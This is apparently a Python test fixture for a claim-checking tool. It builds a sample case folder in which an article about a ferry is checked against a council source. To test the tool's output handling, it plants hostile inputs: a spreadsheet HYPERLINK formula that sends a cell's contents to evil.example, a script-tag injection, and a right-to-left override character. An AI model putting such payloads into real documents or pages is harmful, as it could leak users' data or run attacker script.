"""A case folder with hostile words in it, and what a check of it might find, made by hand."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

from claimcheck import claims, sentences
from claimcheck.case import load
from claimcheck.check import Result
from claimcheck.decisions import append, read
from claimcheck.entailment.judged import LABELS
from claimcheck.kinds.calendar import DateSpan
from claimcheck.records import (
    Fact,
    Finding,
    Internal,
    Level,
    Outcome,
    Pair,
    Verdict,
    frame,
)

CASE = """
title = "The ferry"

[article]
file = "article.txt"
outlet = "Estuary Post"
published = 2025-03-07
url = "https://post.example/ferry"

[[source]]
id = "council"
file = "sources/council.txt"
kind = "talk"
date = 2025-03-04
speakers = ["Mara Lindholm"]

[[source]]
id = "radio"
kind = "interview"
date = 2025-03-05
"""
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
ARTICLE = [
    "The ferry \U0001f6a2 will run for ten weeks, the council said.",
    "The ferry costs £4 million.",
    "</script><script>alert(1)</script> The boat has nine \u202elamps.",
    "The ferry costs £4 million.",
    "The pier was opened in 1987 by Tom Ellery.",
]
COUNCIL = [
    "\U0001f6a2\U0001f6a2 It will run for twelve weeks.",
    "It costs about £4 million.",
    f"{FORMULA} is what the screen said.",
]
OUTCOMES = [
    Outcome.CONTRADICTED,
    Outcome.SUPPORTED,
    Outcome.NOT_MENTIONED,
    Outcome.SUPPORTED,
    Outcome.PARTLY_SUPPORTED,
]


def folder(root: Path) -> Path:
    """Write the case folder."""
    case = root / "ferry"
    (case / "sources").mkdir(parents=True)
    (case / "case.toml").write_text(CASE, encoding="utf-8")
    (case / "article.txt").write_text("\n\n".join(ARTICLE), encoding="utf-8", newline="\r\n")
    (case / "sources/council.txt").write_text("\n\n".join(COUNCIL), encoding="utf-8")
    return case


def result(case: Path, **changes: Any) -> Result:
    """What a check of the folder might find."""
    read_case = load(case)
    article, council, _ = (read_case.article, *read_case.sources)
    own = sentences.split(article)
    theirs = sentences.split(council)
    assert own["text"].tolist() == ARTICLE and len(theirs) == len(COUNCIL)
    asked = claims.extract(own, article)
    ids = asked["id"].tolist()
    spoken = theirs["id"].tolist()

    def finding(n: int, kind: str, level: Level, mine: str, yours: str | None, why: str) -> Finding:
        at = article.text.index(mine, own["start"][n])
        there = None if yours is None else council.text.index(yours)
        evidence = None if there is None else spoken[int((theirs["start"] <= there).sum()) - 1]
        end = None if there is None or yours is None else there + len(yours)
        return Finding(
            ids[n], kind, level, "council", mine, at, at + len(mine),
            evidence, yours, there, end, None, why,
        )  # fmt: skip

    card = Finding(ids[4], "date", Level.UNCLEAR, "radio", "1987",
                   article.text.index("1987"), article.text.index("1987") + 4,
                   None, "2025-03-05", None, None, "date", "years apart")  # fmt: skip
    again = article.text.index("£4 million", own["start"][3])
    first = article.text.index("£4 million")
    frames: dict[str, Any] = {
        "case": read_case,
        "sentences": pd.concat([own, theirs], ignore_index=True),
        "claims": asked,
        "contents": pd.DataFrame({"claim_id": ids, "content": ARTICLE}),
        "pairs": frame(Pair, [Pair(ids[0], spoken[0], "council", -0.25, 1)]),
        "facts": frame(Fact, [
            Fact(own["id"][4], "date", "1987", DateSpan(None, None, "year"), 0, 4)
        ]),
        "answers": pd.DataFrame(),
        "stances": pd.DataFrame(
            [(ids[0], "council", 0.1, 0.7, 0.2, spoken[0], [(0, 3, 0.5)], [(0, 2, -0.6)])],
            columns=["claim_id", "source_id", *LABELS, "evidence_id", "claim_shares",
                     "evidence_shares"],
        ),
        "weighed": pd.DataFrame(),
        "findings": frame(Finding, [
            finding(0, "date", Level.CONFLICTS, "ten weeks", "twelve weeks", "ten is not twelve"),
            finding(1, "number", Level.AGREES, "£4 million", "£4 million", ""),
            finding(3, "number", Level.CLOSE, "£4 million", "about £4 million", FORMULA),
            finding(4, "name", Level.ABSENT, "Tom Ellery", None, ""),
            card,
        ]),
        "verdicts": frame(Verdict, [
            Verdict(i, o, 0.9, FORMULA if n == 2 else f"Why {n}.")
            for n, (i, o) in enumerate(zip(ids, OUTCOMES, strict=True))
        ]),
        "internal": frame(Internal, [Internal(
            "number", ("£4 million",) * 2, "told twice",
            ((first, first + 10), (again, again + 10)),
        )]),
        "model_name": "tiny",
        "model_sha256": "ab12",
        "judge_name": "small",
        "judge_sha256": "cd34",
    }  # fmt: skip
    return Result(**{**frames, **changes})


def decided(case: Path, rows: list[tuple[Any, ...]]) -> pd.DataFrame:
    """Write decisions as a person would; rows of claim, words, outcome, reviewer, note."""
    for row in rows:
        append(case, *row)
    return read(case)
